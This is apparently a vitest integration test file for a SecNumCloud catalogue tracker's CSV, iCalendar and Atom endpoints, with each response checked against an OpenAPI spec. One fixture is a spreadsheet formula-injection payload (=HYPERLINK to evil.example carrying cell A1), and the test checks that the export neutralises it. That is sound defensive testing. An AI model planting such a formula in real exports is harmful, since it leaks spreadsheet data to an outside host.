/**
 * /api/offers.csv, /calendar.ics and the filtered /feed.atom over HTTP, on the real December 2025 catalogue: each
 * output parsed back (csv-parse, ical.js, cheerio as XML), the filters compared with /api/offers', and every
 * response checked against what openapi/openapi.yaml declares for it.
 */
import * as cheerio from 'cheerio';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TrackerState } from '../../src/commands/ports.js';
import type { Offer } from '../../src/core/offer.js';
import { startHttpServer, type HttpServer } from '../../src/http/server.js';
import { createLogger } from '../../src/logger.js';
import type { LogEntry } from '../../src/store/change-log.js';
import { mountApi, type ApiDeps } from '../../src/web/api.js';
import { catalogueSnapshot } from '../support/csv-offers.js';
import { CHANGES, IN_PROGRESS, NOW, SOURCES, sourceStatus, TIME_ZONE } from '../support/fake-command-deps.js';
import { readCalendar } from '../support/ical-read.js';
import { responseProblems } from '../support/openapi-schemas.js';

const december = catalogueSnapshot();
const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Voir la décision")';
const entries: LogEntry[] = [...CHANGES].reverse().map((event, i) => ({ streamId: `${Date.parse(event.detectedAt) + i}-0`, event }));
const logger = createLogger({ level: 'silent', format: 'json' });

function stateOf(offers: Offer[] | undefined, sources = SOURCES): TrackerState {
  return {
    qualified: async () => (offers ? { offers, edition: '2025-12-05' } : { offers: [] }),
    inProgress: async () => IN_PROGRESS,
    sources: async () => sources,
    latestChanges: async (n) => CHANGES.slice(0, n),
    lists: async () => [{ list: 'secnumcloud', read: offers !== undefined, held: false, offers: offers ?? [], ...(offers ? { edition: '2025-12-05' } : {}) }],
  };
}
const deps = (state: TrackerState): ApiDeps => ({
  state,
  changeLog: {
    range: async () => entries,
    recordedSince: async () => entries,
    latest: async (count, before) => [...entries].reverse().filter((e) => before === undefined || e.streamId < before).slice(0, count),
  },
  clock: () => NOW,
  timeZone: TIME_ZONE,
  defaultLang: 'fr',
  reminderWindows: [90, 30, 7],
  logger,
});

let server: HttpServer;
let hostile: HttpServer;
let unread: HttpServer;
beforeAll(async () => {
  const listen = (state: TrackerState) => startHttpServer({ port: 0, host: '127.0.0.1', logger, mount: (app) => mountApi(app, deps(state)) });
  const neverRead = [sourceStatus({ id: 'anssi-catalogue', kind: 'anssi-catalogue' }), ...SOURCES.slice(1)];
  [server, hostile, unread] = await Promise.all([
    listen(stateOf(december.offers)),
    listen(stateOf([{ ...december.offers[0]!, provider: HOSTILE, service: '+33 1 23 45 67 89' }])),
    listen(stateOf(undefined, neverRead)),
  ]);
});
afterAll(async () => {
  await Promise.all([server?.close(), hostile?.close(), unread?.close()]);
});

/** GETs a path and checks the response against the OpenAPI file (the body is read once, returned as text, BOM kept). */
async function get(s: HttpServer, path: string, status = 200, headers: Record<string, string> = {}): Promise<{ res: Response; text: string }> {
  const res = await fetch(s.url + path, { headers });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  expect(res.status, path).toBe(status);
  const type = res.headers.get('content-type');
  expect(responseProblems(path.split('?')[0]!, status, type, type?.startsWith('application/json') ? JSON.parse(text) : undefined), path).toEqual([]);
  return { res, text };
}
const csvRows = (text: string): string[][] => parse(text, { bom: true, delimiter: ';', comment: '#', record_delimiter: '\r\n' }) as string[][];
const jsonOffers = async (query: string): Promise<Array<{ provider: string; service: string }>> =>
  ((await (await fetch(`${server.url}/api/offers${query}`)).json()) as { offers: Array<{ provider: string; service: string }> }).offers;

describe('/api/offers.csv', () => {
  it('is a UTF-8 CSV with a BOM, a source line and the 16 offers, cached and revalidated as the API is', async () => {
    const { res, text } = await get(server, '/api/offers.csv');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="secnumcloud-offres-2025-12-05.csv"');
    expect(res.headers.get('cache-control')).toBe('public, max-age=60');
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    expect(text.startsWith("\uFEFF# Source : catalogue des offres qualifiées SecNumCloud de l'ANSSI, édition du 05/12/2025.")).toBe(true);
    const [header, ...rows] = csvRows(text);
    expect(header![0]).toBe('Fournisseur');
    expect(rows.map((r) => `${r[0]}|${r[1]}`)).toEqual(december.offers.map((o) => `${o.provider}|${o.service}`));
    expect(rows.find((r) => r[1] === 'IaaS')![7]).toBe('2'); // Outscale ends 2026-11-30, two days after NOW
    const etag = res.headers.get('etag')!;
    expect((await fetch(`${server.url}/api/offers.csv`, { headers: { 'if-none-match': etag, 'cache-control': 'max-age=0' } })).status).toBe(304);
  });

  it('keeps the offers /api/offers keeps for the same provider and type, with English headers on lang=en', async () => {
    for (const query of ['?provider=ovh&type=iaas', '?type=SaaS', '?provider=CLOUD%20temple', '?provider=nobody']) {
      const rows = csvRows((await get(server, `/api/offers.csv${query}`)).text).slice(1);
      expect(rows.map((r) => `${r[0]}|${r[1]}`), query).toEqual((await jsonOffers(query)).map((o) => `${o.provider}|${o.service}`));
    }
    const { text } = await get(server, '/api/offers.csv?type=IaaS&lang=en');
    expect(csvRows(text)[0]![0]).toBe('Provider');
    expect(text).toContain('Filters: type IaaS.');
  });

  it('answers a bad filter, or the en cours list, with a 400 naming the parameter', async () => {
    expect(JSON.parse((await get(server, '/api/offers.csv?type=XaaS', 400)).text)).toMatchObject({ error: 'invalid_parameter', parameter: 'type' });
    expect(JSON.parse((await get(server, '/api/offers.csv?status=in_progress', 400)).text)).toMatchObject({ parameter: 'status', message: expect.stringContaining('/api/offers?status=in_progress') });
    expect(JSON.parse((await get(server, '/api/offers.csv?lang=de', 400)).text)).toMatchObject({ parameter: 'lang' });
  });

  it('defuses a provider named =HYPERLINK(…) and a service starting with +', async () => {
    const [, row] = csvRows((await get(hostile, '/api/offers.csv')).text);
    expect(row![0]).toBe(`'${HOSTILE}`);
    expect(row![1]).toBe("'+33 1 23 45 67 89");
  });

  it('says on its first line that the catalogue was never read', async () => {
    const { text } = await get(unread, '/api/offers.csv');
    expect(text.split('\r\n')[0]).toBe("\uFEFF# Source : catalogue des offres qualifiées SecNumCloud de l'ANSSI, aucune édition lue. Le catalogue n'a pas encore été lu : aucune offre qualifiée à afficher pour l'instant. Extrait le 28/11/2026 par secnumcloud-tracker.");
    expect(csvRows(text)).toHaveLength(1);
  });
});

describe('/calendar.ics', () => {
  it('is an iCalendar of the end dates and reminders, which ical.js reads, with its own address as source', async () => {
    const { res, text } = await get(server, '/calendar.ics');
    expect(res.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    const cal = readCalendar(text);
    expect(cal.events).toHaveLength(16 * 4);
    expect(cal.source).toBe(`${server.url}/calendar.ics`);
    const etag = res.headers.get('etag')!;
    expect((await fetch(`${server.url}/calendar.ics`, { headers: { 'if-none-match': etag, 'cache-control': 'max-age=0' } })).status).toBe(304);
  });

  it('has the filters of the CSV, and keeps them in its address', async () => {
    for (const query of ['?provider=ovh&type=IaaS', '?type=PaaS']) {
      const cal = readCalendar((await get(server, `/calendar.ics${query}`)).text);
      const kept = (await jsonOffers(query)).map((o) => `${o.provider} — ${o.service}`);
      const ends = cal.events.filter((e) => e.summary.startsWith('Fin de qualification SecNumCloud :')).map((e) => e.summary.split(' : ')[1]);
      expect([...ends].sort(), query).toEqual([...kept].sort());
      expect(cal.events, query).toHaveLength(kept.length * 4);
    }
    expect(readCalendar((await get(server, '/calendar.ics?type=IaaS&provider=ovh&lang=en')).text).source).toBe(`${server.url}/calendar.ics?provider=ovh&type=IaaS&lang=en`);
    expect(JSON.parse((await get(server, '/calendar.ics?type=XaaS', 400)).text)).toMatchObject({ parameter: 'type' });
  });

  it('answers 503 with the reason when the catalogue was never read, rather than an empty calendar', async () => {
    const { res, text } = await get(unread, '/calendar.ics', 503);
    expect(res.headers.get('retry-after')).toBe('600');
    expect(JSON.parse(text)).toEqual({ error: 'unavailable', message: "Le catalogue n'a pas encore été lu : aucune offre qualifiée à afficher pour l'instant." });
  });
});

describe('/feed.atom with filters', () => {
  it('holds the matching changes only, with a self link that keeps the filters', async () => {
    const { text } = await get(server, '/feed.atom?topic=expiry');
    const $ = cheerio.load(text, { xml: true });
    expect($('entry > category').toArray().map((c) => $(c).attr('term'))).toEqual(['offer.expiring']);
    expect($('feed > link[rel="self"]').attr('href')).toBe(`${server.url}/feed.atom?topic=expiry`);
    const numspot = cheerio.load((await get(server, '/feed.atom?provider=numspot&type=PaaS&lang=en')).text, { xml: true });
    expect(numspot('entry > id').toArray().map((e) => numspot(e).text().split(':').at(-1))).toEqual(['e5', 'e2', 'e1']);
    expect(numspot('feed > link[rel="self"]').attr('href')).toBe(`${server.url}/feed.atom?provider=numspot&type=PaaS&lang=en`);
  });

  it('refuses a topic that is not a subscription\'s with a 400', async () => {
    expect(JSON.parse((await get(server, '/feed.atom?topic=offer.added', 400)).text)).toMatchObject({ parameter: 'topic' });
  });
});

describe('the check against openapi.yaml', () => {
  it('catches a status, a media type or a JSON body the file does not describe', () => {
    expect(responseProblems('/calendar.ics', 200, 'text/calendar; charset=utf-8')).toEqual([]);
    expect(responseProblems('/calendar.ics', 200, 'text/csv')).not.toEqual([]);
    expect(responseProblems('/api/offers.csv', 418, 'text/csv')).not.toEqual([]);
    expect(responseProblems('/calendar.ics', 503, 'application/json', { error: 'nope', message: 'x' })).not.toEqual([]);
    expect(responseProblems('/calendar.ics', 503, 'application/json', { error: 'unavailable', message: 'x' })).toEqual([]);
  });
});
